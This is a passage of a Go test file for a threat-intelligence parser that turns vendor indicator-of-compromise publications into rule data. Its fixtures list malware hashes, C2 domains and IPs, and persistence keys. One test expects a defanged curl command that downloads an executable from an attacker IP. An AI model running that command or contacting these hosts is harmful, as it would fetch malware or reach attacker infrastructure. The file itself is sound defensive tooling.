package parse_test

import (
	"archive/zip"
	"bytes"
	"errors"
	"fmt"
	"html"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/rulegen/rulegen/generate/internal/defang"
	"github.com/rulegen/rulegen/generate/internal/golden"
	"github.com/rulegen/rulegen/generate/parse"
	"github.com/rulegen/rulegen/generate/report"
	"golang.org/x/net/html/charset"
)

// readOne reads a file or a publication folder that holds one report.
func readOne(t *testing.T, path string, opts parse.Options) *report.Report {
	t.Helper()
	var got []*report.Report
	if err := parse.ReadFile(path, opts, func(r *report.Report) error { got = append(got, r); return nil }); err != nil {
		t.Fatal(err)
	}
	if len(got) != 1 {
		t.Fatalf("%s: %d reports, want 1", path, len(got))
	}
	return got[0]
}

// vendorPath is a file of the vendors' publications copied into testdata/vendor.
func vendorPath(t *testing.T, parts ...string) string {
	return filepath.Join(append([]string{golden.RepoRoot(t), "testdata", "vendor"}, parts...)...)
}

// stated lists what a report states as "type value" lines (objects as "object: rel=value,
// rel=value"), with unusable values as "type value !reason", in order.
func stated(r *report.Report) []string {
	var out []string
	for _, a := range r.Attributes {
		line := a.Type + " " + a.Value
		if a.Unusable != "" {
			line += " !" + a.Unusable
		}
		out = append(out, line)
	}
	for _, o := range r.Objects {
		var parts []string
		for _, a := range o.Attributes {
			parts = append(parts, a.Rel()+"="+a.Value)
		}
		line := o.Name + ": " + strings.Join(parts, ", ")
		if o.When().First != "" || o.When().Last != "" {
			line += " seen " + o.When().First + ".." + o.When().Last
		}
		out = append(out, line)
	}
	return out
}

// wantHeading checks what a report was read as, and its title and date.
func wantHeading(t *testing.T, r *report.Report, format parse.Format, title, date string) {
	t.Helper()
	if r.Format != format || r.Title != title || r.Date != date {
		t.Errorf("%s: format %s, title %q, date %q; want %s, %q, %q", r.Source, r.Format, r.Title, r.Date, format, title, date)
	}
}

func wantStated(t *testing.T, r *report.Report, want ...string) {
	t.Helper()
	got := stated(r)
	for _, w := range want {
		if !slices.Contains(got, w) {
			t.Errorf("%s: missing %q; it states:\n  %s", r.Source, w, strings.Join(got, "\n  "))
			return
		}
	}
}

// ESET's AsciiDoc: tables whose rows are samples (hash, name, detection, description) and
// network objects (address, names, first seen), hash blocks under typed headings, bullet lists
// of mutexes and paths, lists of what is no indicator (accounts, Tox ids, detection names, keys).
func TestESETAsciiDoc(t *testing.T) {
	r := readOne(t, vendorPath(t, "eset", "cosmicbeetle", "README.adoc"), parse.Options{})
	if r.Title != "Scarabs colon-izing vulnerable servers – Indicators of Compromise" || r.Date != "2023-11-04" {
		t.Errorf("title %q, date %q (want the newest first-seen)", r.Title, r.Date)
	}
	wantStated(t, r,
		"file: sha1=40B8AF12EA6F89DB6ED635037F468AADEE7F4CA6, filename=app.exe",
		// a cell continued over four lines, its detection names describing the sample
		"file: sha1=705280A2DCC311B75AF1619B4BA29E3622ED53B6, filename=Rarlab_sib.msi",
		"domain-ip: ip=193.37.69.153, domain=up.vctel.com, domain=u.cbu.net, domain=update.cbu.net seen 2021-12-11..",
		"domain-ip: domain=u.piii.net seen 2022-01-25..",
		"domain-ip: ip=66.29.141.245, domain=www.lockbitblog.info seen 2023-11-04..",
		"mutex {46E4D4E6-8B81-84CA-93DA-BB29377B2AC0}",
		`file: fullpath=%USERPROFILE%\Music\`,
		"text support !an account name: too generic for a rule",
		"text Namecheap, Inc. !network context (hosting provider, ASN, country), not an indicator",
		"url http://nonamef5njcxkghbjequlibwe5d3t3li5tmyqdyarnrsryopvku76wqd.onion",
		"email-src decservice@ukr.net",
		"link https://www.welivesecurity.com/en/eset-research/scarabs-colon-izing-vulnerable-servers/",
	)
	for _, o := range r.Objects {
		if o.Attributes[0].Value == "705280A2DCC311B75AF1619B4BA29E3622ED53B6" && !strings.Contains(o.Description, "BAT/Agent.OPN") {
			t.Errorf("multi-line cell lost: %q", o.Description)
		}
	}

	r = readOne(t, vendorPath(t, "eset", "blacklotus", "README.adoc"), parse.Options{})
	if r.Title != "BlackLotus -- Indicators of Compromise" || r.Date != "2023-03-01" {
		t.Errorf("title %q, date %q (want the date in the blog post's address)", r.Title, r.Date)
	}
	wantStated(t, r,
		"sha1 dae7e7c4eec2ac0dc7963c44a5a4f47d930c5508",
		"url harrysucksdick.com/API/hpb_gate.php",
		"text Win64/BlackLotus !a detection name, not an indicator",
		"text -----BEGIN PUBLIC KEY----- !a cryptographic key, not an indicator",
	)
	for _, a := range r.Attributes {
		if a.Type == "sha1" && a.Value == "dae7e7c4eec2ac0dc7963c44a5a4f47d930c5508" && a.Comment != "BlackLotus Installer" {
			t.Errorf("a hash under a sub-heading is described by it: %q", a.Comment)
		}
		if a.Type == "text" && a.Unusable == "" {
			t.Errorf("line %d: prose listed as text: %q", a.Pos.Line, a.Value)
		}
	}
}

// ESET's older layout: attributes before the title, AsciiDoc's escaped \https:// links, a
// dns:// C2, a table delimited by a longer |====, and a certificate's fingerprint that is no
// file's hash.
func TestAsciiDocOlderLayout(t *testing.T) {
	r := readOne(t, vendorPath(t, "variants", "2024-06-08-asciidoc-older"), parse.Options{})
	if r.Title != "Older Layout Indicators of Compromise" || r.Date != "2024-06-08" {
		t.Errorf("title %q, date %q", r.Title, r.Date)
	}
	wantStated(t, r,
		"url https://older-c2.example-evil.net/help/index.php",
		"domain tunnel.older-c2.net",
		"sha1 c994d192a38325c17cee7542bc23569524d9d5ee",
		"sha1 a40beefdd023901bbe7315c1c4cc0fa8d7448d57 !a code-signing certificate's fingerprint or serial, not a file's hash",
	)
	for _, a := range r.Attributes {
		if strings.EqualFold(a.Value, "Fingerprint") {
			t.Errorf("a table's header is listed as a value: %+v", a)
		}
	}
}

// A publication folder is one report: ESET's README with its samples.* lists, each hash once,
// with its name where the table gives one.
func TestPublicationFolder(t *testing.T) {
	dir := vendorPath(t, "eset", "cosmicbeetle")
	r := readOne(t, dir, parse.Options{})
	if r.Format != "publication" || r.Source != dir {
		t.Errorf("format %q, source %q", r.Format, r.Source)
	}
	hashes := map[string]int{}
	for _, a := range r.Attributes {
		if len(a.Value) == 32 || len(a.Value) == 40 || len(a.Value) == 64 {
			hashes[strings.ToLower(a.Value)]++
		}
	}
	for _, o := range r.Objects {
		for _, a := range o.Attributes {
			if a.Rel() == "sha1" {
				hashes[strings.ToLower(a.Value)]++
			}
		}
	}
	for _, list := range []string{"samples.md5", "samples.sha1", "samples.sha256"} {
		data, err := os.ReadFile(filepath.Join(dir, list))
		if err != nil {
			t.Fatal(err)
		}
		for _, h := range strings.Fields(string(data)) {
			if hashes[h] != 1 {
				t.Errorf("%s: %s stated %d times, want once", list, h, hashes[h])
			}
		}
	}
}

// Volexity's CSV (value, entity_type, description) and its YARA rules make one report, dated
// by the folder's name.
func TestVolexityFolder(t *testing.T) {
	r := readOne(t, vendorPath(t, "volexity", "2026-06-04-VerdantBamboo"), parse.Options{})
	if r.Title != "VerdantBamboo" || r.Date != "2026-06-04" {
		t.Errorf("title %q, date %q", r.Title, r.Date)
	}
	wantStated(t, r,
		"file: sha256=dfb37247d12351ef9708cb6631ce2d7017897503657c6b882a711c0da8a9a591",
		"domain-ip: domain=calixcloudinfo.com",
		"domain-ip: ip=149.248.11.71",
	)
	yaras := 0
	for _, a := range r.Attributes {
		if a.Type == "yara" && strings.Contains(a.Value, "rule apt_malware_golang_brickstorm_b") && a.ToIDS {
			yaras++
		}
	}
	if yaras != 1 {
		t.Errorf("rules.yar: %d yara attributes, want 1", yaras)
	}
}

// CSV: a byte-order mark, CRLF, quoted commas, type words (FileHash-SHA1, IPv4 with a port),
// a Description row that is the report's link and title, values typed by shape.
func TestCSV(t *testing.T) {
	r := readOne(t, vendorPath(t, "variants", "2024-06-02-fake-update.csv"), parse.Options{})
	if r.Title != "Fake update campaign, staged through a loader" || r.Date != "2024-06-02" {
		t.Errorf("title %q, date %q", r.Title, r.Date)
	}
	wantStated(t, r,
		"link https://example-research.org/2024/06/02/fake-update-campaign/",
		"domain-ip: domain=update-check.top",
		"domain-ip: url=https://update-check.top/api/v2?id=1",
		"file: filename=Update Installer.exe",
		"domain-ip: ip-dst|port=5.2.72.15|8443",
		"domain-ip: ip=203.0.113.9",
		"text not-a-hash",
	)
	for _, o := range r.Objects {
		if o.Attributes[0].Value == "https://update-check.top/api/v2?id=1" && o.Description != "C2, check-in" {
			t.Errorf("quoted note with a comma: %q", o.Description)
		}
	}
	// A column per kind (a sample's hashes, size and names a row), an unnamed column typed by
	// its values' shapes, a SHA-1 in the MD5 column read as what it is.
	wide := readOne(t, vendorPath(t, "variants", "2024-06-07-wide-columns.csv"), parse.Options{})
	wantStated(t, wide,
		"file: sha256=fe2f5efca3a037072e17102c52ba5d5afd911f9e273dd846544c1f5978dd5647, sha1=862b2e2c3a35e943bae8f0aa3d737d0fa85715cf, md5=603cc02265d13e008dbcf491984f1c6d, size-in-bytes=31232, filename=Invoice copy.pdf.exe, filename=Payment advice.doc.exe",
		"domain-ip: url=wide-c2.net/gate.php, url=https://wide-drop.org/js3/svch",
		"file: sha256=39d0bf750657b05364fb7752719581785259ecf35242a316104ba921a8fdf220, sha1=24e42dbc20832caefde5a0c69ddc05105f48a69a, size-in-bytes=9280, filename=report.doc",
	)
	tsv := readOne(t, vendorPath(t, "variants", "2024-06-06-tab-separated.tsv"), parse.Options{})
	wantStated(t, tsv, "domain-ip: domain=bad-actor.xyz")

	// A CSV without a header is read by its cells' shapes, the other cells describing them.
	headerless, err := parse.Bytes("2024-01-01-list.csv", []byte("45.9.1.2,45.9.1.3\nevil-c2[.]com,C2 of the loader\n"))
	if err != nil {
		t.Fatal(err)
	}
	wantStated(t, headerless, "ip-dst 45.9.1.2", "ip-dst 45.9.1.3", "domain evil-c2.com")
	for name, data := range map[string]string{
		"2024-01-01-noheader.csv": "city,population\nParis,2100000\n",
		"2024-01-01-quote.csv":    "value,type\n\"evil.com,domain\n",
		"2024-01-01-empty.csv":    "\ufeff\r\n",
	} {
		err := parse.Each(name, []byte(data), parse.Options{}, func(*report.Report) error { return nil })
		if !errors.Is(err, parse.ErrInput) || !strings.HasPrefix(err.Error(), name+":") {
			t.Errorf("%s: %v, want an input error naming the file and line", name, err)
		}
	}
}

// Markdown: pipe tables whose rows are objects (a sample with its name, size and first seen;
// an address with its port, two names and both dates), headed lists, a Published: date.
func TestMarkdownDocument(t *testing.T) {
	r := readOne(t, vendorPath(t, "variants", "2024-06-03-markdown-tables.md"), parse.Options{})
	if r.Format != "document" || r.Title != "Operation Example: indicators of compromise" || r.Date != "2024-06-03" {
		t.Errorf("format %q, title %q, date %q", r.Format, r.Title, r.Date)
	}
	wantStated(t, r,
		"file: sha256=b210027520bd3c426e23491dc2bce9ea9d6335b24bda79cdd5d7fffee67ae356, filename=loader.dll, size-in-bytes=204800 seen 2024-05-30..",
		"domain-ip: ip=5.2.72.16, port=443, domain=cdn-update.top, domain=api.cdn-update.top seen 2024-05-01..2024-05-29",
		"domain-ip: domain=static.cdn-update.top seen 2024-05-02..",
		`mutex Global\ExampleLoaderMtx_31`,
		`file: fullpath=%APPDATA%\ExampleSoft\loader.dll`,
		`regkey HKCU\Software\Microsoft\Windows\CurrentVersion\Run\ExampleSoftUpdater`,
		"url https://cdn-update.top/api/ping",
		"domain cdn-backup.top", // a bare name under a URL heading
		"link https://example-research.org/2024/06/03/operation-example/",
	)
}

// Sectioned text (Unit42's shape): labelled lines typed by their labels, a group of a file's
// lines one object, SECTION: lines typing the bullets under them, two URLs on one line, a URL
// in another's query refanged, code and commands kept out, labels that say "not an indicator".
func TestSectionedText(t *testing.T) {
	r := readOne(t, vendorPath(t, "variants", "2024-05-01-sectioned-text.txt"), parse.Options{})
	if r.Title != "sectioned text" || r.Date != "2024-05-01" {
		t.Errorf("title %q, date %q", r.Title, r.Date)
	}
	wantStated(t, r,
		`file: sha256=ec4d14d3878bc88200ebad2736118ce6a3d7e12e117f97e7f06e54514d83c1f9, size-in-bytes=563096, filename=Document_39.js, fullpath=C:\Users\[username]\AppData\Local\Temp\Document_39.js`,
		"ip-dst|port 45.95.11.134|443",
		"domain riscoarchez.com",
		"url https://files.evil-cdn.top/upd/second.msi",
		"url https://mail-lure.top/qt/btteuaea", // a URL, whatever the label says it came from
		"ip-dst|port 45.95.11.136|80",
		"domain gate-two.space",                       // leading a part after a dash, before its description
		`file: fullpath=C:\ProgramData\Installer.msi`, // a file's second location
		"domain-ip: url=https://files.evil-cdn.top/upd/Document_39.js",
		"url https://t.co/r?u=https://redir.evil-cdn.top/gate",
		"url blob:https://files.evil-cdn.top/6b3e",
		"domain trushoper.com",
		"domain aprettopizza.world",
		"ip-dst|port 91.92.240.71|8080",
		"text socket=io(`hxxps://sock.evil-cdn[.]top/io`)",
		"text curl -o x.exe hxxp://45.95.11[.]135/x.exe",
		"text NameCheap, Inc. !registration data (registrar, registrant, name server), not an indicator",
		"domain dns1.registrar-servers.com !registration data (registrar, registrant, name server), not an indicator",
		"domain www.msftconnecttest.com !labelled legitimate or benign by the publication",
		"link https://example-research.org/2024/05/01/loader-from-js-file/",
		"url https://app.any.run/tasks/0b7e6c1a-5d2f-4f7e-9a63-1c2d3e4f5a6b !a link to an analysis or a sandbox's report, not an indicator",
	)
	for _, a := range r.Attributes {
		if a.Type == "sha256" && !strings.HasPrefix(a.Comment, "SHA256 HASHES") && a.Comment != "second DLL" {
			t.Errorf("line %d: a hash under a section: comment %q", a.Pos.Line, a.Comment)
		}
	}
}

// Hash lists: a hash a line, with sha256sum's "hash  name" and "hash *name"; the folder names
// and dates a list with a generic name.
func TestHashList(t *testing.T) {
	r := readOne(t, vendorPath(t, "variants", "2024-06-04-hash-list", "samples.sha256"), parse.Options{})
	if r.Title != "hash list" || r.Date != "2024-06-04" {
		t.Errorf("title %q, date %q", r.Title, r.Date)
	}
	var names []string
	for _, o := range r.Objects {
		names = append(names, o.Attributes[1].Value)
	}
	if !slices.Equal(names, []string{"invoice_0423.exe", "stage2.dll"}) || len(r.Attributes) != 2 || r.Attributes[1].Type != "text" {
		t.Errorf("objects %v, attributes %v", stated(r), r.Attributes)
	}
}

// A folder with a document, a CSV, an export and YARA files: one report, each sample once, the
// export's id, TLP and to_ids respected.
func TestPublicationWithExport(t *testing.T) {
	r := readOne(t, vendorPath(t, "variants", "2024-06-05-with-export"), parse.Options{})
	if r.ID != "5f0c2a8e-3d1b-4c6e-9a7f-2b8d4e6f1a3c" || r.Title != "Harvest Lynx campaign" || r.Date != "2024-06-05" || !slices.Contains(r.Context.TLP, "amber") {
		t.Errorf("id %q, title %q, date %q, context %+v", r.ID, r.Title, r.Date, r.Context)
	}
	files := 0
	for _, o := range r.Objects {
		if o.Name == "file" {
			files++
		}
	}
	if files != 1 {
		t.Errorf("%d file objects, want the one sample: %v", files, stated(r))
	}
	for _, a := range append(r.Attributes, r.Objects[len(r.Objects)-1].Attributes...) {
		if strings.Contains(a.Value, "lynx-update.org") && a.ToIDS {
			t.Errorf("%s: %q flagged, though the export does not flag it", a.Pos, a.Value)
		}
	}
	yaras := 0
	for _, a := range r.Attributes {
		if a.Type == "yara" {
			yaras++
		}
	}
	if yaras != 2 {
		t.Errorf("%d YARA files, want 2", yaras)
	}
}

// Dates a publication states in other words, and the error when it states none.
func TestPublicationDates(t *testing.T) {
	for src, want := range map[string]string{
		"= T\n:revdate: 2023-07-14\n\n== Hashes\n----\nd41d8cd98f00b204e9800998ecf8427f\n----\n": "2023-07-14",
		"# T\nDate: March 1, 2023\n\n- evil[.]com\n":                                             "2023-03-01",
		"# T\nSee https://blog.example.org/2022/10/05/post/\n\n- evil[.]com\n":                   "2022-10-05",
		"# T\nActive from 2021-02-03 to 2021-04-05.\n\n- evil[.]com\n":                           "2021-04-05",
		// Dates written out, or a date and time, in prose; never a day that is not one.
		"# T\nPublished 12 March 2024, updated Mar. 14th, 2024.\n\n- evil[.]com\n":            "2024-03-14",
		"# T\nFirst seen 2023-11-04T10:00:00Z; 31 February 2024 is no day.\n\n- evil[.]com\n": "2023-11-04",
		// A page's <meta> publication date is stated, and wins over dates it mentions.
		`<html><head><meta property="article:published_time" content="2024-08-22T09:00:00+00:00"></head>` +
			`<body><h1>T</h1><p>Seen 2024-08-30.</p><p>evil[.]com</p></body></html>`: "2024-08-22",
		`<html><body><h1>T</h1><time itemprop="datePublished" datetime="2024-05-06">May 6</time><p>evil[.]com</p></body></html>`: "2024-05-06",
	} {
		name := "doc.md"
		switch {
		case strings.HasPrefix(src, "="):
			name = "doc.adoc"
		case strings.HasPrefix(src, "<"):
			name = "page.html"
		}
		var got *report.Report
		if err := parse.Each(name, []byte(src), parse.Options{}, func(r *report.Report) error { got = r; return nil }); err != nil {
			t.Errorf("%q: %v", src, err)
			continue
		}
		if got.Date != want {
			t.Errorf("%q: date %q, want %q", src, got.Date, want)
		}
	}
	// Dates in names as vendors write them.
	for name, want := range map[string]string{
		"2024-05-01-x.csv": "2024-05-01", "20250205_SVGspam.csv": "2025-02-05", "Ransom-Lockbit_20220412.csv": "2022-04-12",
		"2023-10-ColdFusion-ransomware-IOCs.csv": "2023-10-01", "3CX IoCs 2023-03.csv": "2023-03-01", "2309 Tiny Turla backdoor.csv": "2023-09-01",
	} {
		var got *report.Report
		err := parse.Each(name, []byte("value,type\nevil[.]com,domain\n"), parse.Options{}, func(r *report.Report) error { got = r; return nil })
		if err != nil || got.Date != want {
			t.Errorf("%s: %v, %v; want %s", name, got, err, want)
		}
	}
	for _, name := range []string{"2025 Lumma Stealer.csv", "06082025-edrkiller-iocs.csv", "x2309 y.csv"} { // a year alone; day and month in either order
		err := parse.Each(name, []byte("value,type\nevil[.]com,domain\n"), parse.Options{}, func(*report.Report) error { return nil })
		if !errors.Is(err, parse.ErrUndated) {
			t.Errorf("%s: %v, want it undated", name, err)
		}
	}
	err := parse.Each("notes/doc.md", []byte("# T\n\n- evil[.]com\n"), parse.Options{}, func(*report.Report) error { return nil })
	if !errors.Is(err, parse.ErrInput) || !strings.Contains(err.Error(), "notes/doc.md") || !strings.Contains(err.Error(), "--date") {
		t.Errorf("undated: %v", err)
	}
}

// Sniffing by name and content: vendors' Markdown is a document, a MISP rendering is not.
func TestSniffFile(t *testing.T) {
	for name, want := range map[string]parse.Format{
		"iocs.csv": parse.FormatCSV, "x.TSV": parse.FormatCSV, "README.adoc": parse.FormatDocument, "rules.yar": parse.FormatYARA,
		"samples.sha256": parse.FormatHashes, "samples.txt": parse.FormatHashes, "list.txt": parse.FormatIOCs,
		"README.md": parse.FormatDocument, "event.json": parse.FormatMISP, "c2.lst": parse.FormatIOCs, "domains.list": parse.FormatIOCs,
		"SAMPLES.sha256sum": parse.FormatHashes,
	} {
		if got := parse.SniffFile(name, []byte(`{"Event": {}}`)); name != "README.md" && got != want {
			t.Errorf("%s: %q, want %q", name, got, want)
		}
	}
	if got := parse.SniffFile("x.md", []byte("# Threat Report: 2020-01-01: X\n")); got != parse.FormatMarkdown {
		t.Errorf("a MISP rendering: %q", got)
	}
	if got := parse.SniffFile("x.md", []byte("# X\n| SHA256 |\n|---|\n")); got != parse.FormatDocument {
		t.Errorf("a vendor's Markdown: %q", got)
	}
}

// precise checks what every reader must hold to: a value it states as an indicator appears,
// refanged, in what it read (no invented or half-refanged values).
// regexEscape is an escaped character of a regular expression (lantern\.exe).
var regexEscape = regexp.MustCompile(`\\([^A-Za-z0-9])`)

func precise(t *testing.T, data []byte, r *report.Report) {
	t.Helper()
	source := string(data)
	if r.Format == parse.FormatHTML {
		if !utf8.Valid(data) { // a page in the encoding it declares
			enc, _, _ := charset.DetermineEncoding(data, "")
			decoded, _ := enc.NewDecoder().Bytes(data)
			source = string(decoded)
		}
		source = html.UnescapeString(source) // what the page says: &amp; is &
	}
	text := strings.ToLower(defang.Refang(source))
	text += "\n" + regexEscape.ReplaceAllString(text, "$1") // a LOKI filename IOC's literal name
	check := func(a report.Attribute) {
		if a.Type == "text" || a.Type == "link" || a.Type == "yara" || a.Type == "sigma" || a.Type == "size-in-bytes" || a.Rel() == "size-in-bytes" || strings.Contains(a.Value, `"`) {
			return
		}
		for _, part := range strings.Split(a.Value, "|") {
			if !strings.Contains(text, strings.ToLower(part)) {
				t.Fatalf("%s: %s %q is not in the input", a.Pos, a.Type, part)
			}
		}
	}
	for _, a := range r.Attributes {
		check(a)
	}
	for _, o := range r.Objects {
		for _, a := range o.Attributes {
			check(a)
		}
	}
}

func fuzzVendor(f *testing.F, name string, seeds ...string) {
	for _, s := range seeds {
		if b, err := os.ReadFile(filepath.Join("..", "..", "testdata", "vendor", s)); err == nil {
			f.Add(b)
		}
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		err := parse.Each(name, data, parse.Options{Date: "2024-01-01"}, func(r *report.Report) error {
			precise(t, data, r)
			return nil
		})
		var inputErr *parse.InputError
		if err != nil && !errors.As(err, &inputErr) {
			t.Fatalf("not an input error: %v", err)
		}
	})
}

// Each reader's fuzz target: any input gives a report whose values are all in the input, or an
// input error naming the file.
func FuzzCSV(f *testing.F) {
	fuzzVendor(f, "fuzz.csv", "variants/2024-06-02-fake-update.csv", "volexity/2026-06-04-VerdantBamboo/iocs.csv", "variants/2024-06-06-tab-separated.tsv", "variants/2024-06-07-wide-columns.csv")
}

func FuzzAsciiDoc(f *testing.F) {
	fuzzVendor(f, "fuzz.adoc", "eset/cosmicbeetle/README.adoc", "eset/blacklotus/README.adoc", "variants/2024-06-08-asciidoc-older/README.adoc")
}

func FuzzMarkdownDocument(f *testing.F) {
	fuzzVendor(f, "fuzz-doc.md", "variants/2024-06-03-markdown-tables.md", "variants/2024-06-05-with-export/README.md")
}

func FuzzSectionedText(f *testing.F) {
	fuzzVendor(f, "fuzz.txt", "variants/2024-05-01-sectioned-text.txt")
}

func FuzzLOKIList(f *testing.F) {
	fuzzVendor(f, "fuzz-iocs.txt", "variants/2024-07-12-loki-iocs/c2-iocs.txt", "variants/2024-07-12-loki-iocs/hash-iocs.txt", "variants/2024-07-12-loki-iocs/filename-iocs.txt")
}

func FuzzSigmaFile(f *testing.F) {
	fuzzVendor(f, "fuzz.yml", "variants/2024-03-04-hostile-rules/detect.yml")
}

func FuzzHashList(f *testing.F) {
	fuzzVendor(f, "fuzz.sha256", "variants/2024-06-04-hash-list/samples.sha256", "eset/blacklotus/samples.md5")
}

// A dotted word is a domain only under a top-level domain of the Public Suffix List's ICANN
// section: file names and words under a C2 heading never become C2 domains, while a defanged
// name under a real top-level domain is one even where files share its ending (.one).
func TestDomainsNeedAPublicSuffix(t *testing.T) {
	doc := "# Campaign\n\nDate: 2024-05-01\n\n## C2 servers\n\n- k5j[.]one\n- loader.go\n- temp.periscope\n- evil-c2[.]com\n- 172-235-56-113.plesk[.]page\n\n## Files\n\n- ventanas.txt\n- assorted.csv\n"
	r, err := parse.Bytes("campaign.md", []byte(doc))
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, a := range r.Attributes {
		got[a.Value] = a.Type
	}
	for _, o := range r.Objects {
		for _, a := range o.Attributes {
			got[a.Value] = a.Type
		}
	}
	for _, d := range []string{"k5j.one", "evil-c2.com", "172-235-56-113.plesk.page"} {
		if got[d] != "domain" {
			t.Errorf("%s typed %q, want domain (all: %v)", d, got[d], got)
		}
	}
	for _, v := range []string{"loader.go", "temp.periscope", "ventanas.txt", "assorted.csv"} {
		if got[v] == "domain" || got[v] == "hostname" {
			t.Errorf("%s typed %q: no public suffix, no domain (all: %v)", v, got[v], got)
		}
	}
}

// A publication's date never fails it: what it states, else its path (dated folders, a folder
// or file named by its month), else when git first saw it, else the day rulegen first made its
// rules. A date after the run's day (a compile time in 2033) or no calendar day is none.
func TestPublicationsAreNeverUndated(t *testing.T) {
	csv := []byte("value,type\nevil-c2[.]com,domain\n")
	opts := parse.Options{Today: "2026-12-01"}
	for name, want := range map[string]string{
		"repo/2023/03/list.csv":           "2023-03-01",
		"repo/2023/03/14/list.csv":        "2023-03-14",
		"repo/201604_campaign/iocs.csv":   "2016-04-01",
		"repo/Name_08_2024.csv":           "2024-08-01",
		"repo/2021-06-07-op/nested/x.csv": "2021-06-07",
		"repo/nothing.csv":                "2026-12-01", // the run's day
	} {
		var got *report.Report
		if err := parse.Each(name, csv, opts, func(r *report.Report) error { got = r; return nil }); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if got.Date != want || got.DatedByRun != (want == "2026-12-01") {
			t.Errorf("%s: dated %s (by the run: %v), want %s", name, got.Date, got.DatedByRun, want)
		}
	}
	// A first-seen column in the future, and one that is no day, date nothing; 20160418 does.
	for body, want := range map[string]string{
		"value,type,first_seen\nevil-c2[.]com,domain,2033-01-01\n": "2026-12-01",
		"value,type,first_seen\nevil-c2[.]com,domain,2023-20-09\n": "2026-12-01",
		"value,type,first_seen\nevil-c2[.]com,domain,20160418\n":   "2016-04-18",
		"# T\nDate: 2031-01-01\n\n- evil-c2[.]com\n":               "2026-12-01",
	} {
		name := "x.csv"
		if strings.HasPrefix(body, "#") {
			name = "x.md"
		}
		var got *report.Report
		if err := parse.Each(name, []byte(body), opts, func(r *report.Report) error { got = r; return nil }); err != nil || got.Date != want {
			t.Errorf("%q: %v (%v), want %s", body, got, err, want)
		}
	}
	// git's first commit of the file dates it before the run's day does; an earlier run's day
	// (the run state) before both.
	added := map[string]string{"repo/list.csv": "2022-05-06"}
	var got *report.Report
	parse.Each("repo/list.csv", csv, parse.Options{Today: "2026-12-01", Added: added}, func(r *report.Report) error { got = r; return nil })
	if got == nil || got.Date != "2022-05-06" || got.DatedByRun {
		t.Errorf("from git: %+v", got)
	}
	parse.Each("repo/other.csv", csv, parse.Options{Today: "2026-12-09", FirstMade: map[string]string{"repo/other.csv": "2026-12-01"}}, func(r *report.Report) error { got = r; return nil })
	if got == nil || got.Date != "2026-12-01" || !got.DatedByRun {
		t.Errorf("an earlier run's day: %+v", got)
	}
}

// LOKI/THOR IOC lists are read as what they are: `value;comment` (the comment describes the
// value and is never one, though it holds a dotted word), and filename IOCs, regular
// expressions with a score, as a file name when literal, else skipped with the reason.
func TestLOKILists(t *testing.T) {
	dir := vendorPath(t, "variants", "2024-07-12-loki-iocs")
	c2 := readOne(t, filepath.Join(dir, "c2-iocs.txt"), parse.Options{})
	if c2.Format != parse.FormatLOKI {
		t.Errorf("c2-iocs.txt read as %s", c2.Format)
	}
	wantStated(t, c2, "domain lantern-relay.org", "ip-dst 45.77.12.10", "domain lantern-beacon.net")
	for _, s := range stated(c2) {
		if strings.Contains(s, "periscope") {
			t.Errorf("a comment became a value: %s", s)
		}
	}
	hashes := readOne(t, filepath.Join(dir, "hash-iocs.txt"), parse.Options{})
	wantStated(t, hashes, "sha256 3f786850e387550fdab836ed7e6dc881de23001b8f5b5d5b3a1b37f49df1e58b", "sha1 c3499c2729730a7f807efb8676a92dcb6f8a3f8e")
	names := readOne(t, filepath.Join(dir, "filename-iocs.txt"), parse.Options{})
	wantStated(t, names, "filename lanternsvc.exe")
	reasons := map[string]string{}
	for _, a := range names.Attributes {
		if a.Unusable != "" {
			reasons[a.Value] = a.Unusable
		}
	}
	if !strings.Contains(reasons[`\\AppData\\Local\\Temp\\[a-z]{6}\.dll`], "a regular expression (score 70)") ||
		!strings.Contains(reasons[`\\ProgramData\\lantern\\`], "part of a path (score 60)") {
		t.Errorf("filename IOCs skipped with %v", reasons)
	}
}

// A word's meaning follows its context and the value's shape: smart quotes and a whole
// assignment are not part of a name, a "Name" column beside an address names a host (no file),
// a location that is no path is no dropped file, and ATT&CK names are no file names.
func TestValuesAgreeWithTheirContext(t *testing.T) {
	doc := "# Operation Smart Quote\n\nDate: 2024-08-01\n\n## Files\n\n- aero_arrow.cur”\n- driver = “dement.dll”\n- T1059.001 PowerShell\n- Command and Scripting Interpreter: PowerShell\n\n" +
		"## Hosts\n\n| Name | IP address |\n|---|---|\n| update.exe | 45.95.11.200 |\n| relay.evil-host.com | 45.95.11.201 |\n\n## Dropped\n\nLocation: Germany\nFile: C:\\Users\\Public\\kite.exe\n" +
		// A sentence under a heading that types its lines is no value of the kind.
		"\n## Mutexes\n\nThe loader creates the following mutex, once a session:\n\nGlobal\\KiteMtx\n\nIt exits when the Mutex exists already.\n" +
		"\n## Registry\n\nPersistence goes under the Run key\n\nHKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Kite\n" +
		// A table's cell is held to the same: a column names a kind, a sentence is none of it.
		"\n## Host\n\n| Mutex | Note |\n|---|---|\n| Local\\KiteOnce | single instance |\n| Created when the loader starts. | |\n"
	r, err := parse.Bytes("x.md", []byte(doc))
	if err != nil {
		t.Fatal(err)
	}
	got := stated(r)
	wantStated(t, r, "filename aero_arrow.cur", "filename dement.dll", "domain-ip: ip=45.95.11.200", "domain-ip: ip=45.95.11.201, domain=relay.evil-host.com",
		`mutex Global\KiteMtx`, `regkey HKCU\Software\Microsoft\Windows\CurrentVersion\Run\Kite`, `domain-ip: mutex=Local\KiteOnce`)
	for _, s := range got {
		for _, never := range []string{"update.exe", "Germany", "PowerShell", "”", "driver", "following mutex", "exists already", "goes under", "loader starts"} {
			if strings.Contains(s, never) && !strings.HasPrefix(s, "text ") {
				t.Errorf("%q states %q", never, s)
			}
		}
	}
}

// OpenIOC documents (1.0 .ioc, 1.1 as .xml in Latin-1) are read by content: the terms rulegen
// writes rules for become values, the hashes, name, size and path of an AND group one file;
// a negated term, a regular expression, part of a name and a term without a rule are listed
// with the reason; the short description titles the report and the authored date dates it.
func TestOpenIOC(t *testing.T) {
	dir := vendorPath(t, "variants", "2024-08-20-openioc")
	r := readOne(t, filepath.Join(dir, "kestrel-backdoor.ioc"), parse.Options{})
	wantHeading(t, r, parse.FormatOpenIOC, "KESTREL BACKDOOR (METHODOLOGY)", "2024-08-20")
	wantStated(t, r,
